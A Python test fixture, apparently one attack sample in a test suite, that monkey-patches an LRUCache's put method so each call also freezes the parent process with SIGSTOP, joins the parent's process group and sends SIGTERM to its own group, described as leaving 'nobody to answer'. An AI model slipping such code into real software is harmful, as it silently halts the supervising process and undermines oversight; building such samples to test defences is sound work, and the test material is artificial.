"""Stops the process that started it, so that nobody is left to answer, and ends its own group."""
# goal: harm
# group: process
# baseline: wrong
# note: signals go to its own parent and its own group only
#@part tests/attacks/07_lru_cache/baseline_wrong.py
import os
import signal

_put = LRUCache.put


def put(self, key, value):
    parent = os.getppid()
    for deed in (
        lambda: parent > 1 and os.kill(parent, signal.SIGSTOP),
        lambda: parent > 1 and signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGSTOP),
        lambda: os.setpgid(0, os.getpgid(parent)),
        lambda: os.killpg(0, signal.SIGTERM) if os.getpgid(0) == os.getpid() else None,
    ):
        try:
            deed()
        except OSError:
            continue
    _put(self, key, value)


LRUCache.put = put
